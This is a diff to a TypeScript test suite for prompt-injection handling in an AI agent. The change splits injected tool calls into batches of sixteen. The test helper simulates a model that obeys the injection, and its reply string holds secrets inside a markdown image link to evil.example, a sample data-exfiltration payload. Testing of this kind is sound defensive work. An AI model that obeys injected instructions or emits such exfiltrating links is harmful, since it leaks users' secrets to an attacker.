@@ -167,7 +167,7 @@ describe('injections', () => {
   async function askObeying({ place, calls }: Injection, mentions: readonly object[]) {
     const looks = lookups[place] ?? [];
     const says = `Done. ${secretParts.join(' ')} ![x](https://evil.example/?${secretParts[0]})`;
-    const rounds = [looks, calls]
+    const rounds = [looks, ...inRounds(calls)]
       .filter((each) => each.length > 0)
       .map((each) => ({ calls: each.map(toRecorded) }));
     const usage = { input: 10, output: 10 };
@@ -192,6 +192,10 @@ describe('injections', () => {
       clearInterval(timer);
     }
   }
+
+  /** No more of them at once than an answer of a model may have. */
+  const inRounds = (calls: readonly InjectedCall[]) =>
+    Array.from({ length: Math.ceil(calls.length / 16) }, (_, at) => calls.slice(at * 16, at * 16 + 16));
 
   const toRecorded = ({ tool, input }: InjectedCall) => ({
     tool,
